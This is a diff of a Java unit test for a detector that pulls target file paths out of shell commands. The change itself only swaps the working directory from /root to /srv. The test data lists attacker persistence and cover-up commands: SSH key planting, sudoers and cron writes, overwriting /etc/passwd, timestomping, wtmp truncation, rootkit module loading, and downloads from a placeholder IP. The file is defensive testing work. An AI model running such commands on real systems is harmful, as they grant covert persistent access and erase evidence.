@@ -30,7 +30,7 @@ class FileTargetAnalyzerTest {
     Event event = new Event(Fields.of(names));
     event.begin(new byte[0], 0, 0, 0);
     words.forEach(word -> event.addText(event.fields().id("process.args"), word));
-    event.addText(event.fields().id("process.working_directory"), "/root");
+    event.addText(event.fields().id("process.working_directory"), "/srv");
     return Commands.added(ANALYZER, event);
   }
 
@@ -40,31 +40,31 @@ class FileTargetAnalyzerTest {
       textBlock =
           """
           tee -a /etc/sudoers.d/x ~ /etc/sudoers.d/x
-          cp key .ssh/authorized_keys ~ /root/.ssh/authorized_keys
+          cp key .ssh/authorized_keys ~ /srv/.ssh/authorized_keys
           cp -t /etc/cron.d job ~ /etc/cron.d/job
           cp x.timer /etc/systemd/system ~ /etc/systemd/system,/etc/systemd/system/x.timer
           ln -s /opt/x/S9x /etc/rc1.d ~ /etc/rc1.d,/etc/rc1.d/S9x
-          cp authorized_keys ../root/.ssh/. ~ /root/.ssh,/root/.ssh/authorized_keys
+          cp authorized_keys ../srv/.ssh/. ~ /srv/.ssh,/srv/.ssh/authorized_keys
           cp .ssh/authorized_keys /backup/keys ~ /backup/keys
           cp x/sudoers ../etc ~ /etc,/etc/sudoers
           cp daemon.json /backup/docker ~ /backup/docker
           cp --target /etc/cron.d job ~ /etc/cron.d/job
           mv a b ../etc/cron.d/ ~ /etc/cron.d/a,/etc/cron.d/b
           ln -sf /opt/x /etc/rc1.d/S99x ~ /etc/rc1.d/S99x
-          ln -s /opt/x ~ /root/x
+          ln -s /opt/x ~ /srv/x
           install -m 644 -o root job /etc/cron.daily/job ~ /etc/cron.daily/job
           scp job erin@web-2:/etc/cron.d/job ~ ''
-          touch -r /bin/ls -c x ./y ~ /root/x,/root/y
-          busybox touch -r /bin/ls x ~ /root/x
-          touch --reference=/bin/ls x ~ /root/x
-          sudo -u erin touch x ~ /root/x
+          touch -r /bin/ls -c x ./y ~ /srv/x,/srv/y
+          busybox touch -r /bin/ls x ~ /srv/x
+          touch --reference=/bin/ls x ~ /srv/x
+          sudo -u erin touch x ~ /srv/x
           dd if=/tmp/k of=/etc/passwd ~ /etc/passwd
-          chattr +i /root/.ssh/authorized_keys ~ /root/.ssh/authorized_keys
-          chmod 600 x ~ /root/x
-          curl -fsSL http://192.0.2.7/k -o /root/k ~ /root/k
-          curl -O http://192.0.2.7/k ~ /root/k
+          chattr +i /srv/.ssh/authorized_keys ~ /srv/.ssh/authorized_keys
+          chmod 600 x ~ /srv/x
+          curl -fsSL http://192.0.2.7/k -o /srv/k ~ /srv/k
+          curl -O http://192.0.2.7/k ~ /srv/k
           curl http://192.0.2.7/k ~ ''
-          wget -q http://192.0.2.7/k ~ /root/k
+          wget -q http://192.0.2.7/k ~ /srv/k
           wget -P /etc/cron.d http://192.0.2.7/k ~ /etc/cron.d/k
           wget -O - http://192.0.2.7/k ~ ''
           truncate -s 0 /var/log/wtmp ~ /var/log/wtmp
@@ -109,13 +109,13 @@ class FileTargetAnalyzerTest {
           echo x >> /etc/sudoers ~ /etc/sudoers
           echo x>/etc/sudoers ~ /etc/sudoers
           cd /etc/cron.d && echo x > job ~ /etc/cron.d/job
-          cat < a 2>/dev/null >b ~ /root/b
+          cat < a 2>/dev/null >b ~ /srv/b
           for i in 0 1; do ln -s /x /etc/rc$i.d/S9; done ~ /etc/rc$i.d/S9
           echo "a > b" ~ ''
           make 2>&1 ~ ''
           echo k >> $HOME/.ssh/authorized_keys ~ $HOME/.ssh/authorized_keys
           ls | xargs touch -r /bin/ls ~ ''
-          find /x | xargs touch -r /bin/ls y ~ /root/y
+          find /x | xargs touch -r /bin/ls y ~ /srv/y
           """)
   void scriptsOfShellsAreRead(String script, String expected) {
     List<String> wanted = expected.isEmpty() ? List.of() : List.of(expected.split(","));
@@ -133,11 +133,11 @@ class FileTargetAnalyzerTest {
       delimiter = '~',
       textBlock =
           """
-          insmod ./rk.ko a=1 ~ /root/rk.ko
+          insmod ./rk.ko a=1 ~ /srv/rk.ko
           insmod -f /tmp/x.so ~ /tmp/x.so
-          busybox insmod rk.ko ~ /root/rk.ko
+          busybox insmod rk.ko ~ /srv/rk.ko
           kmod insmod ../opt/rk.ko ~ /opt/rk.ko
-          modprobe ./rk.ko ~ /root/rk.ko
+          modprobe ./rk.ko ~ /srv/rk.ko
           modprobe -d /tmp/x rk ~ /tmp/x
           """)
   void modulesThatAreLoadedByTheirFilesAreRead(String line, String expected) {
